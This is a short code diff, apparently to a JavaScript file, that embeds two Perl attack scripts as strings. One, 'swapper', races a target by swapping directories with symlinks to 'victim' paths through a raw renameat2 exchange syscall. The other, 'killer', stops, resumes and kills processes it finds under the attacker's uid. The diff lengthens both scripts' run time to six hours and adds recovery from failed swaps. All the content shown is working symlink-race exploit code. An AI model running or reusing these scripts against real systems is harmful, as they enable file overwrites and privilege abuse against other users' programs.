@@ -9,9 +9,10 @@ const swapper = `
 use strict; use warnings;
 my ($home, @victims) = @ARGV;
 chdir $home or die;
-$SIG{ALRM} = sub { exit 0 }; alarm 900;
+$SIG{ALRM} = sub { exit 0 }; alarm 21600;
 sub exchange { my ($one, $other) = @_; syscall(316, -100, $one, -100, $other, 2) }
 sub tree {
+  for my $name ('a', 'a/b', 'a/b/f') { exchange($name, "$name.l") if -l $name && !-l "$name.l" } # one way failed, as under a lock
   mkdir 'a'; mkdir 'a/b';
   unless (-l 'a/b/f' || -e 'a/b/f') { if (open my $f, '>', 'a/b/f') { print $f "own\\n"; close $f } }
   symlink $victims[0], 'a.l'; symlink "$victims[0]/b", 'a/b.l'; symlink $victims[1], 'a/b/f.l';
@@ -28,7 +29,7 @@ while (1) {
 // Looks for programs under the attacker's uid that are not his, stops and resumes them by tracing, and kills every fourth.
 const killer = `
 use strict; use warnings;
-$SIG{ALRM} = sub { exit 0 }; alarm 900;
+$SIG{ALRM} = sub { exit 0 }; alarm 21600;
 my $n = 0;
 while (1) {
   for my $dir (glob '/proc/[0-9]*') {
